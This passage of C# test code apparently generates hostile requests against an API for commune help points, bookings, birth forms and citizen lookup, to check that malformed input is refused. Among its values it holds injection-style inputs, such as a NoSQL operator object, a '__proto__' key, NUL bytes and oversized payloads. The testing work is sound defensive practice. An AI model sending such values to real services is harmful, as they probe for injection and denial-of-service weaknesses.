                ("\"2026-1-1\"", "unpadded"), ("20261201", "a number"), ("\"2026-12-01T00:00\"", "a date and time"),
                ("\"9999-12-31\"", "the last day of the calendar"), ("\"0001-01-01\"", "the first day of the calendar"),
                ("\"1900-01-01\"", "long past"), ("\"yesterday\"", "a word"), ("\"\"", "empty"), ("\"2026-12-01 \"", "a trailing space"),
                ("\"+002026-12-01\"", "a signed year"), ("true", "true"), ("[]", "an array"), ("{}", "an object"), .. s_injectionText.Take(3),
            ],
            Kind.Time =>
            [
                ("\"24:00\"", "24:00"), ("\"7:00\"", "unpadded"), ("\"07:00:00\"", "with seconds"), ("\"-01:00\"", "negative"),
                ("\"07:60\"", "minute 60"), ("700", "a number"), ("\"07:00Z\"", "with a zone"), ("\"\"", "empty"),
                ("\"19:00\\u0000\"", "followed by NUL"), ("\"99:99\"", "99:99"), ("\"١٩:٠٠\"", "Arabic-Indic digits"), ("\"7pm\"", "7pm"),
                ("true", "true"), ("[]", "an array"), ("{}", "an object"),
            ],
            Kind.Days =>
            [
                ("\"mon\"", "a day, not a list"), ("{}", "an object"), ("[1]", "a number"), ("[null]", "null"), ("[\"monday\"]", "a long name"),
                ("[\"Mon\"]", "a capitalised name"), ("[[]]", "a nested array"), ("[]", "empty"), ("[\"mon\",\"mon\"]", "a repeated day"),
                ($"[{string.Join(',', Enumerable.Repeat("\"mon\"", 1_000))}]", "1,000 days"), ("[\"mon\\u0000\"]", "a day and NUL"),
            ],
            Kind.Weekday => [("\"monday\"", "a long name"), ("1", "a number"), ("null", "null"), ("\"Mon\"", "capitalised"),
                ("\"sun \"", "a trailing space"), ("{}", "an object"), ("[]", "an array"), ("\"\"", "empty"), ("\"\\u0000\"", "NUL")],
            Kind.Citizen or Kind.TemplatePart => [("\"x\"", "a string"), ("42", "a number"), ("[]", "an array"), ("{}", "an empty object"),
                ("[{}]", "an array holding an object"), ("true", "true")],
            Kind.Stage =>
            [
                ("\"launched\"", "not a stage"), ("\"\"", "empty"), ("\"preparing, piloting\"", "two stages, which read as a third"),
                ("\"notStarted, preparing\"", "two stages, which read as one of them"), ("\"preparing|piloting\"", "two stages with a bar"),
                ("\"1\"", "a number in a string"), ("\"preparing\\u0000\"", "a stage and NUL"), ("0", "a number"), ("4", "a number"),
                ("-1", "negative"), ("true", "true"), ("[]", "an array"), ("{}", "an object"), .. s_injectionText.Take(3),
            ],
            Kind.Codes =>
            [
                ("\"20527\"", "a code, not a list"), ("{}", "an object"), ("[20527]", "a number"), ("[null]", "null"), ("[\"\"]", "an empty code"),
                ("[\"99999\"]", "a code in no register"), ("[\"20527\",\"99999\"]", "a known code and an unknown one"), ("[[]]", "a nested array"),
                ("[]", "empty"), ($"[{string.Join(',', Enumerable.Repeat("\"20527\"", 1_000))}]", "1,000 codes"),
                ($"[{string.Join(',', Enumerable.Range(0, 1_000).Select(i => $"\"{i:00000}\""))}]", "1,000 codes in no register"),
                ("[\"20527\\u0000\"]", "a code and NUL"),
            ],
            Kind.HouseCount =>
            [
                ("\"3\"", "a number in a string"), ("3.5", "a fraction"), ("-1", "negative"), ("31", "over 30"), ("-2147483648", "int.MinValue"),
                ("2147483648", "above int.MaxValue"), ("99999999999999999999999", "huge"), ("1e2", "an exponent"), ("true", "true"),
                ("[]", "an array"), ("{}", "an object"), ("\"NaN\"", "NaN in a string"), ("0.0", "zero as a fraction"),
            ],
            Kind.Periods =>
            [
                ("{}", "an object"), ("\"x\"", "a string"), ("[null]", "a null period"), ("[[]]", "a nested array"), ("[1]", "a number"),
                ("[]", "empty"), ($"[{string.Join(',', Enumerable.Repeat("null", 1_000))}]", "1,000 null periods"),
                ($"[{string.Join(',', Enumerable.Repeat("{\"days\":[\"mon\"],\"start\":\"07:00\",\"end\":\"08:00\"}", 100))}]", "100 periods"),
            ],
            Kind.Period => [("[]", "an array"), ("\"x\"", "a string"), ("{}", "an empty object"), ("42", "a number"),
                ("{\"days\":[\"mon\"]}", "days only")],
            Kind.Form =>
            [
                ("[]", "an array"), ("\"x\"", "a string"), ("42", "a number"), ("true", "true"),
                ("{\"childFullName\":5}", "holding a number"), ("{\"childFullName\":null}", "holding null"),
                ("{\"childFullName\":{\"$gt\":\"\"}}", "holding an operator object"), ("{\"childFullName\":[\"a\"]}", "holding an array"),
                ("{\"\":\"x\"}", "holding an empty name"), ("{\"\\u0000\":\"x\"}", "holding a NUL name"),
                ("{\"child\\u0007FullName\":\"x\"}", "holding a name with BEL"), ("{\"\\ud800\":\"x\"}", "holding a lone surrogate name"),
                ($"{{{Quoted(new string('f', 5_000))}:\"x\"}}", "holding a 5,000-character name"),
                ($"{{{string.Join(',', Enumerable.Range(0, 51).Select(i => $"\"f{i}\":\"x\""))}}}", "holding 51 fields"),
                ($"{{{string.Join(',', Enumerable.Range(0, 1_000).Select(i => $"\"f{i}\":\"x\""))}}}", "holding 1,000 fields"),
                ("{\"__proto__\":{}}", "holding __proto__"), ("{\"childFullName\":\"a\",\"childFullName\":\"b\"}", "holding a repeated field"),
            ],
            _ => throw new ArgumentOutOfRangeException(nameof(member), member.Kind, null),
        };
        return member.Required || member.Kind is Kind.FreeText or Kind.Code && member.Path.Contains("form", StringComparison.Ordinal)
            ? [.. wrong, ("null", "null")]
            : wrong;
    }

    // ---- Shapes of the bodies this generator knows ------------------------------------------------------------

    private Shape? ShapeOf(ApiRoute route) => route.ToString() switch
    {
        "POST /api/v1/communes/{communeCode}/help-points" or "PUT /api/v1/help-points/{helpPointId}" => new Shape(
            "help point",
            () => JsonEdits.ToObject(Bodies.HelpPoint(2)),
            [
                new("name", Kind.FreeText), new("kind", Kind.Enum), new("address", Kind.FreeText), new("computers", Kind.Count),
                new("openingHours", Kind.Periods), new("openingHours[0]", Kind.Period), new("openingHours[0].days", Kind.Days),
                new("openingHours[0].days[0]", Kind.Weekday), new("openingHours[0].start", Kind.Time), new("openingHours[0].end", Kind.Time),
                new("openingHours[0].slotMinutes", Kind.Minutes, Required: false),
            ]),
        "POST /api/v1/help-points/{helpPointId}/closures" => new Shape(
            "closure",
            () => JsonEdits.ToObject(Bodies.Closure(ParseDate(targets.SessionId[..10]))),
            [new("date", Kind.Date), new("reason", Kind.FreeText)]),
        "POST /api/v1/help-points/{helpPointId}/sessions/{sessionId}/bookings" => new Shape(
            "booking",
            () => JsonEdits.ToObject(new { citizen = Canary(), serviceCode = Bodies.ServiceCode, waitlist = true }),
            [.. CitizenMembers("citizen"), new("serviceCode", Kind.Code), new("waitlist", Kind.Flag, Required: false)]),
        "POST /api/v1/help-points/{helpPointId}/sessions/{sessionId}/walk-ins" => new Shape(
            "walk-in",
            () => JsonEdits.ToObject(new { citizen = Canary(), serviceCode = Bodies.ServiceCode }),
            [.. CitizenMembers("citizen"), new("serviceCode", Kind.Code)]),
        "POST /api/v1/communes/{communeCode}/requests" => new Shape(
            "request",
            () => JsonEdits.ToObject(new { citizen = Canary(), serviceCode = Bodies.ServiceCode, form = Bodies.BirthForm() }),
            [
                .. CitizenMembers("citizen"), new("serviceCode", Kind.Code), new("bookingId", Kind.Code, Required: false),
                new("form", Kind.Form, Required: false), new("form.childFullName", Kind.FreeText, Required: false),
                new("form.childBirthDate", Kind.Code, Required: false), new("form.childSex", Kind.Code, Required: false),
            ]),
        "PUT /api/v1/requests/{requestId}/form" => new Shape(
            "form",
            () => JsonEdits.ToObject(Bodies.BirthForm()),
            [
                new("childFullName", Kind.FreeText), new("birthPlace", Kind.FreeText), new("childBirthDate", Kind.Code),
                new("childSex", Kind.Code), new("applicantRelationship", Kind.Code),
            ]),
        "PUT /api/v1/communes/{communeCode}/rollout-stage" => new Shape(
            "rollout stage",
            () => JsonEdits.ToObject(Bodies.RolloutStage("preparing", "Bắt đầu chuẩn bị / Preparing")),
            [new("stage", Kind.Stage), new("note", Kind.FreeText, Required: false)]),
        // Of the commune of the targets, which has help points: a rollout let through by mistake would skip it. Never
        // null communeCodes: like a body without them, that names every commune of the register, which is valid.
        "POST /api/v1/province/rollout" => new Shape(
            "rollout",
            () => JsonEdits.ToObject(Bodies.Rollout([targets.CommuneCode], Bodies.RolloutTemplate(1))),
            [
                new("communeCodes", Kind.Codes, Required: false), new("communeCodes[0]", Kind.Code), new("district", Kind.Code, Required: false),
                new("template", Kind.TemplatePart), new("template.communeOffice", Kind.TemplatePart, Required: false),
                new("template.communeOffice.computers", Kind.Count), .. PeriodMembers("template.communeOffice.openingHours"),
                new("template.villageHouses", Kind.TemplatePart, Required: false), new("template.villageHouses.count", Kind.HouseCount),
                new("template.villageHouses.computers", Kind.Count), .. PeriodMembers("template.villageHouses.openingHours"),
            ]),
        "POST /api/v1/citizens/lookup" => new Shape(
            "lookup",
            () => JsonEdits.ToObject(new { idNumber = targets.CanaryIdNumber }),
            [new("idNumber", Kind.Code)]),
        _ => null,
    };

    private static Member[] PeriodMembers(string prefix) =>
    [
        new(prefix, Kind.Periods), new($"{prefix}[0]", Kind.Period), new($"{prefix}[0].days", Kind.Days),
        new($"{prefix}[0].days[0]", Kind.Weekday), new($"{prefix}[0].start", Kind.Time), new($"{prefix}[0].end", Kind.Time),
        new($"{prefix}[0].slotMinutes", Kind.Minutes, Required: false),
    ];

    private static Member[] CitizenMembers(string prefix) =>
    [
        new(prefix, Kind.Citizen), new($"{prefix}.idNumber", Kind.Code), new($"{prefix}.fullName", Kind.FreeText),
        new($"{prefix}.phone", Kind.Code),
    ];

    private object Canary() => new { idNumber = targets.CanaryIdNumber, fullName = HostileTargets.CanaryFullName, phone = HostileTargets.CanaryPhone };

    /// <summary>Routes that are POSTs without a body: actions on the resource in their path.</summary>
    private static bool IsBodyless(ApiRoute route) =>
        route.ToString() is "POST /api/v1/bookings/{bookingId}/check-in" or "POST /api/v1/requests/{requestId}/submit";

    /// <summary>The route's valid body, or for a route whose body is unknown a small object of its own.</summary>
    private byte[] ValidBodyBytes(ApiRoute route) =>
        ShapeOf(route) is { } shape ? Encoding.UTF8.GetBytes(shape.Valid().ToJsonString(HttpJson.Options)) : Utf8("{\"hostile\":\"body\",\"n\":1}");

    // ---- Helpers -----------------------------------------------------------------------------------------------

    /// <summary>
    /// Adds the request. NUL in a path is refused by Kestrel itself, with a bare 400 before any middleware runs: such a
    /// request is marked, so that a 400 without a problem document is what it expects.
    /// </summary>
    private void Add(HostileRequest request) => _requests.Add(request.Path.Split('?')[0].Contains("%00", StringComparison.Ordinal)
        ? request with { RefusedByKestrel = true }
        : request);

    private string PathOf(ApiRoute route, bool ghost = false) => PathOf(route, null, ghost);

    private string PathOf(ApiRoute route, (string Parameter, string Segment)? replace, bool ghost = false)
    {
        var path = route.Template;
        foreach (var parameter in route.Parameters)
        {
            var value = replace?.Parameter == parameter ? replace.Value.Segment : Uri.EscapeDataString(targets.ValueOf(parameter, ghost));
            var start = path.IndexOf("{" + parameter, StringComparison.Ordinal);
            var end = path.IndexOf('}', start);
            path = path[..start] + value + path[(end + 1)..];
        }

        return path;
    }

    private static DateOnly ParseDate(string text) => DateOnly.ParseExact(text, "yyyy-MM-dd", CultureInfo.InvariantCulture);

    private static string DateText(DateOnly date) => date.ToString("yyyy-MM-dd", CultureInfo.InvariantCulture);

    private static byte[] Utf8(string text) => Encoding.UTF8.GetBytes(text);

    private static string Quoted(string text) => JsonSerializer.Serialize(text, HttpJson.Options);

    /// <summary>The document with the member at <paramref name="path"/> replaced by raw bytes, which need not be JSON at all.</summary>
    private static byte[] Splice(string json, string path, byte[] value)
    {
        var body = JsonNode.Parse(json)!.AsObject();
        JsonEdits.Change(body, path, Quoted(Placeholder));
        var text = body.ToJsonString(HttpJson.Options);
        var at = text.IndexOf(Quoted(Placeholder), StringComparison.Ordinal);
        return [.. Utf8(text[..at]), .. value, .. Utf8(text[(at + Quoted(Placeholder).Length)..])];
    }

    /// <summary>The document with members inserted at the start of its root object.</summary>
    private static string InsertMembers(string json, string members)
    {
        var open = json.IndexOf('{');
        var rest = json[(open + 1)..].TrimStart();
        return json[..(open + 1)] + members + (rest.StartsWith('}') ? string.Empty : ",") + rest;
    }

    private static string? FirstMemberName(string json)
    {
        using var document = JsonDocument.Parse(json);
        return document.RootElement.ValueKind == JsonValueKind.Object ? document.RootElement.EnumerateObject().FirstOrDefault().Name : null;
    }

    private static string FirstMemberValue(string json)
    {
        using var document = JsonDocument.Parse(json);
        return document.RootElement.EnumerateObject().First().Value.GetRawText();
    }

    private static string UnquoteFirstName(string json)
    {
        var open = json.IndexOf('"');
        var close = json.IndexOf('"', open + 1);
        return open < 0 ? "{a:1}" : json[..open] + json[(open + 1)..close] + json[(close + 1)..];
    }
}
